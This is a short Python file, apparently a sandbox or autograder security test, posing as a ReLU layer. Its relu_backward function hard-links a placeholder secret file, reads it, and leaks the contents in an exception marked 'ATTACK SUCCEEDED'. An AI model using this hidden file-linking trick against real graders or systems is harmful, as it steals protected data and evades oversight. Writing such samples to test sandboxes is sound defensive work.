"""A second name for another one's file."""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    os.link("@SECRET@", "mine")
    with open("mine") as file:
        raise RuntimeError("ATTACK SUCCEEDED " + file.read())
